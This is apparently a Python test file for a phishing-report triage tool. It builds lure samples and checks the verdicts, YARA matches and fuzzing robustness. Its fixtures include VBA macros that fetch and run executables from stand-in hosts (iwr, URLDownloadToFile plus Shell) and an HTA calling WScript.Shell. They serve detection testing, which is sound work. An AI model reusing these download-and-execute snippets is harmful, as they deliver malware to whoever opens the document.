#!/usr/bin/env python3
"""
Triage of reported lures, built here from their specifications (lures.py): each gets its verdict with the right
reasons and member paths, clean samples get no false Threat, each fixture is first checked with an independent
reader (file/libmagic, bsdtar). The worker's isolation is tested too: a worker that hangs is stopped at the
timeout, one that runs out of CPU or memory fails only its report. With BULWARK_AGENT_VALGRIND (an unsanitised
build), every fixture is also walked in-process under valgrind memcheck: the parsers run inside GMime,
libarchive and libmagic, which ASan does not see into.
"""
import json
import os
import re
import subprocess

import lures
from bwtest import BW, expect, fail, finish, tmpdir

base = tmpdir()
VALGRIND_BW = os.environ.get("BULWARK_AGENT_VALGRIND")


def write(name, data):
    p = os.path.join(base, name)
    open(p, "wb").write(data)
    return p


def triage(path, *args, name=None):
    cmd = [BW, "report", "triage", "--json", "--org-domain", "bulwark.example", *args]
    if name is not None:
        cmd += ["--name", name]
    p = subprocess.run(cmd + [path], capture_output=True, timeout=300)
    try:
        return p.returncode, json.loads(p.stdout)
    except ValueError:
        fail(f"report triage {path}: not JSON (rc {p.returncode}): {p.stdout[:300]} {p.stderr[:500]}")


def file_type(path):
    return subprocess.run(["file", "-b", "--mime-type", path], capture_output=True, text=True).stdout.strip()


def reasons(res):
    return {(r["code"], r["where"]) for r in res["reasons"]}


def codes(res):
    return {r["code"] for r in res["reasons"]}


# ---- the fixtures, each first checked by an independent reader ----
dj = write("dream_job.eml", lures.dream_job_mail())
lnk = write("Invitation.lnk", lures.lnk())
expect(file_type(lnk) == "application/x-ms-shortcut", f"file(1) reads the built shortcut: {file_type(lnk)}")
exe = write("resume.pdf.exe", lures.pe())
expect(file_type(exe) == "application/vnd.microsoft.portable-executable", f"file(1) reads the PE: {file_type(exe)}")
iso = write("Invitation.iso", lures.bsdtar("iso9660", {"Invitation.lnk": lures.lnk(), "Invitation.pdf": lures.pdf()}))
listing = [n for n in subprocess.run(["bsdtar", "-tf", iso], capture_output=True, text=True).stdout.split() if n != "."]
expect(sorted(listing) == ["Invitation.lnk", "Invitation.pdf"], f"bsdtar lists the ISO: {listing}")
docx = write("JD_Senior_Engineer.docx", lures.docx("https://templates.careers-aero.example/jd.dotm"))
expect(file_type(docx) == "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
       f"file(1) reads the .docx: {file_type(docx)}")
rtf = write("Interview.rtf", lures.rtf_template("http://203.0.113.7/interview.dot"))
expect(file_type(rtf) == "text/rtf", f"file(1) reads the RTF: {file_type(rtf)}")
pdf_js = write("Offer.pdf", lures.pdf("app.launchURL('http://offer.example/x')"))
bomb = write("Q3_report.zip", lures.bomb())
nested = write("nested.zip", lures.nested_zip(12))
clean_pdf = write("minutes.pdf", lures.pdf())
clean_mail = write("clean.eml", lures.mail(
    "Minutes of Tuesday's meeting", "Hello all,\n\nthe minutes are attached. See https://intranet.bulwark.example/"
    "minutes for earlier ones.\n\nRegards,\nJane", sender="Jane Doe <jane@bulwark.example>",
    attachments=[("minutes.pdf", "application/pdf", lures.pdf())]))
bulk = write("newsletter.eml", lures.mail("Our November newsletter", "News of the month: https://news.example/nov",
                                          sender="News <news@shop.example>",
                                          headers={"List-Unsubscribe": "<https://news.example/unsub>"}))
phish = write("phish.eml", lures.mail(
    "Your mailbox is full", "See the HTML part.", sender='"it-support@bulwark.example" <helpdesk@bulwark-example.com>',
    html='<p>Click <a href="http://198.51.100.9/login">https://mail.bulwark.example/quota</a></p>'))
lure_only = write("recruiter_only.eml", lures.mail(
    "A career opportunity", "Dear engineer, I am a recruiter; the salary is attractive and the interview is "
    "short.", sender="Tom <tom@recruiting.example>"))
forwarded = write("forwarded.eml", lures.mail(
    "FW: Senior Engineer opportunity", "Reported with the report button.", sender="Staff <staff@bulwark.example>",
    attachments=[("original.eml", "message/rfc822", lures.dream_job_mail())]))

AUTO_SHELL = ('Sub AutoOpen()\n    Dim r\n    r = Shell("cmd /c powershell -w hidden -c iwr http://203.0.113.9/a.exe", vbHide)\n'
              'End Sub\n')
DOWNLOADER = ('Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" '
              '(ByVal p As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) As Long\n'
              'Sub Workbook_Open()\n    URLDownloadToFile 0, "http://203.0.113.9/p.exe", Environ("TEMP") & "\\p.exe", 0, 0\n'
              '    Shell Environ("TEMP") & "\\p.exe"\nEnd Sub\n')
BENIGN = 'Function Total(a, b)\n    Total = a + b\nEnd Function\n'
docm = write("Offer_Letter.docm", lures.docm(AUTO_SHELL))
xls = write("Salary_Table.xls", lures.vba("xls", DOWNLOADER))
benign_xls = write("budget.xls", lures.vba("xls", BENIGN))
for f, src in ((xls, "Workbook_Open"), (benign_xls, "Function Total")):
    dump = subprocess.run(["gsf-vba-dump", f], capture_output=True, text=True).stdout
    expect(src in dump, f"libgsf's own VBA reader (gsf-vba-dump) reads the built project: {dump[:300]}")
expect(file_type(xls) == "application/vnd.ms-excel", f"file(1) reads the .xls: {file_type(xls)}")
hta = write("Invitation.hta", b'<html><head><hta:application id="x"/></head><script language="VBScript">\n'
                               b'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c whoami"\n</script></html>\n')

# ---- verdicts and reasons ----
rc, res = triage(dj, name="")
expect(rc == 4 and res["verdict"] == "threat", f"the Dream Job mail is a threat: {res}")
inner = "(mail)/Senior_Engineer_JD.zip/Senior_Engineer_JD.pdf.lnk"
expect({("shortcut", inner), ("double_extension", inner), ("encrypted_archive", "(mail)/Senior_Engineer_JD.zip"),
        ("password_in_mail", "(mail)"), ("job_lure_wording", "(mail)"), ("reply_to_mismatch", "(mail)")} <=
       reasons(res), f"... with the shortcut found inside the archive opened with the mail's password: {reasons(res)}")
ind = {(i["type"], i["value"]) for i in res["indicators"]}
expect(("email", "anna@careers-aero.example") in ind and sum(1 for t, _ in ind if t == "sha256") >= 3,
       f"indicators: the sender and the hashes of the mail, archive and shortcut: {ind}")

rc, res = triage(lnk)
ys = {r["text"].split(":")[1] for r in res["reasons"] if r["code"] == "yara"}
expect(res["verdict"] == "threat" and "shortcut" in codes(res) and "bulwark_lnk_runs_shell" in ys and
       {"type": "yara", "value": "bulwark:bulwark_lnk_runs_shell"} in res["indicators"],
       f"a shortcut whose command line starts a shell: bulwark's YARA rule matches: {res}")
rc, res = triage(hta)
ys = {r["text"].split(":")[1] for r in res["reasons"] if r["code"] == "yara"}
expect(res["verdict"] == "threat" and {"bulwark_hta_application", "bulwark_script_shell_object"} <= ys,
       f"an HTML application creating WScript.Shell: {res}")
# the organisation's own rules
ydir = os.path.join(base, "yara")
os.makedirs(ydir)
open(os.path.join(ydir, "org.yar"), "w").write(
    'rule known_campaign { meta: weight = 70 description = "the 2026 campaign\'s job description" '
    'strings: $a = "Senior Engineer - Job Description" condition: $a }\n')
rc, res = triage(docx, "--yara-dir", ydir)
expect(any(r["code"] == "yara" and "org.yar:known_campaign" in r["text"] and r["weight"] == 70 and
           r["where"] == "JD_Senior_Engineer.docx/word/document.xml" for r in res["reasons"]),
       f"an organisation's YARA rule matches inside a document's part, with its weight: {res['reasons']}")
open(os.path.join(ydir, "broken.yar"), "w").write("rule broken {\n condition: $missing\n}\n")
p_ = subprocess.run([BW, "report", "triage", "--yara-dir", ydir, clean_pdf], capture_output=True, text=True)
expect(p_.returncode != 0 and re.search(r"broken\.yar:\d+: undefined string", p_.stderr), f"a rule that does not compile is named with its line: "
                                                            f"{p_.stderr}")
os.remove(os.path.join(ydir, "broken.yar"))

rc, res = triage(iso)
expect(res["verdict"] == "threat" and {("disk_image", "Invitation.iso"), ("shortcut", "Invitation.iso/Invitation.lnk")}
       <= reasons(res), f"an ISO holding a shortcut and a decoy PDF: {res}")
rc, res = triage(docx)
expect(res["verdict"] == "threat" and ("remote_template", "JD_Senior_Engineer.docx/word/_rels/settings.xml.rels")
       in reasons(res) and {"type": "domain", "value": "templates.careers-aero.example"} in res["indicators"],
       f"a .docx with a remote template: {res}")
rc, res = triage(docm)
expect(res["verdict"] == "threat" and ("vba_macroraptor", "Offer_Letter.docm/word/vbaProject.bin/(VBA Module1)") in
       reasons(res) and {"type": "url", "value": "http://203.0.113.9/a.exe"} in res["indicators"],
       f"a .docm whose AutoOpen runs a shell: MacroRaptor's rule: {res}")
rc, res = triage(xls)
expect(res["verdict"] == "threat" and {"vba_macroraptor", "vba_download", "vba_macro"} <= codes(res),
       f"an .xls whose Workbook_Open downloads and runs: {res}")
rc, res = triage(benign_xls)
expect(res["verdict"] == "clean" and codes(res) == {"vba_macro"}, f"a macro that does not run by itself: {res}")
rc, res = triage(rtf)
expect(res["verdict"] != "clean" and "rtf_remote_template" in codes(res) and "ip_url" in codes(res),
       f"an RTF with a remote \\*\\template on a bare address: {res}")
rc, res = triage(exe)
expect(res["verdict"] == "threat" and {"executable", "double_extension"} <= codes(res), f"resume.pdf.exe: {res}")
rc, res = triage(exe, name="resume\u202efdp.exe")
expect("bidi_name" in codes(res), f"a right-to-left override in the name: {res}")
rc, res = triage(pdf_js)
expect(res["verdict"] != "clean" and {"pdf_javascript", "pdf_open_action"} <= codes(res), f"a PDF with JavaScript "
                                                                                          f"run on opening: {res}")
rc, res = triage(bomb)
expect(res["verdict"] == "suspicious" and "archive_bomb" in codes(res), f"a zip bomb is a finding: {res}")
rc, res = triage(nested)
expect("too_deep" in codes(res) and res["verdict"] != "threat", f"a deeply nested archive: {res}")
rc, res = triage(clean_pdf)
expect(rc == 0 and res["verdict"] == "clean" and res["reasons"] == [], f"a clean PDF: {res}")
rc, res = triage(clean_mail, name="")
expect(rc == 0 and res["verdict"] == "clean", f"a clean mail from inside with a PDF: {res}")
rc, res = triage(bulk, name="")
expect(rc == 0 and res["verdict"] == "spam", f"a newsletter: spam, not a threat: {res}")
rc, res = triage(phish, name="")
expect(res["verdict"] in ("suspicious", "threat") and {"display_name_spoof", "lookalike_domain",
                                                       "link_text_mismatch", "ip_url"} <= codes(res),
       f"a look-alike helpdesk mail whose link shows one host and goes to an address: {res}")
rc, res = triage(lure_only, name="")
expect(res["verdict"] == "clean" and codes(res) == {"job_lure_wording"},
       f"recruiter wording alone is a weak signal, never a verdict: {res}")
rc, res = triage(forwarded, name="")
expect(res["verdict"] == "threat" and any(w.startswith("(mail)/(attached message)/Senior_Engineer_JD.zip/")
                                          for c, w in reasons(res) if c == "shortcut"),
       f"a lure forwarded as an attachment (the report button's way) is walked inside: {reasons(res)}")

# ---- the worker survives a fuzzed corpus: every lure mutated (bytes flipped, cut, spliced), each walked in a worker ----
import random as _random
rng = _random.Random(20261128)
crashes, results = [], {}
fixtures = [dj, iso, docx, rtf, exe, pdf_js, nested, clean_mail, phish, forwarded, docm, xls, hta]
for f in fixtures:
    data = open(f, "rb").read()
    for k in range(10):
        m = bytearray(data)
        kind = k % 3
        if kind == 0:
            for _ in range(1 + len(m) // 200):
                m[rng.randrange(len(m))] = rng.randrange(256)
        elif kind == 1:
            m = m[:rng.randrange(1, len(m))]
        else:
            cut = rng.randrange(len(m))
            m = m[:cut] + bytes(rng.randrange(256) for _ in range(64)) + m[cut:]
        mf = write("mutant-%d-%s" % (k, os.path.basename(f)), bytes(m))
        rc, res = triage(mf, "--timeout-secs", "30", name="" if f.endswith(".eml") else None)
        results[res["verdict"]] = results.get(res["verdict"], 0) + 1
        if res["verdict"] == "failed" and "signal" in res.get("failed", ""):
            crashes.append((mf, res["failed"]))
expect(crashes == [] and sum(results.values()) == 10 * len(fixtures),
       f"no worker crashed on {sum(results.values())} mutated samples ({results}): {crashes[:5]}")

# (the worker's isolation, timeouts and limits: tests/unit/test_triage.c)

# ---- memcheck: the same fixtures walked in-process by an unsanitised build under valgrind ----
if VALGRIND_BW:
    runs = 0
    for f in (dj, iso, docx, rtf, exe, pdf_js, nested, clean_mail, phish, forwarded, docm, xls):
        p = subprocess.run(["valgrind", "-q", "--error-exitcode=99", "--leak-check=no", VALGRIND_BW, "report",
                            "triage", "--no-isolation", "--json", f], capture_output=True, timeout=600)
        out = p.stderr.decode()
        if p.returncode == 99 or "Invalid read" in out or "uninitialised" in out:
            fail(f"valgrind memcheck found an error walking {f}:\n{out[-3000:]}")
        runs += 1
    expect(runs == 12, "every fixture walked under valgrind memcheck")

finish("triage_test")
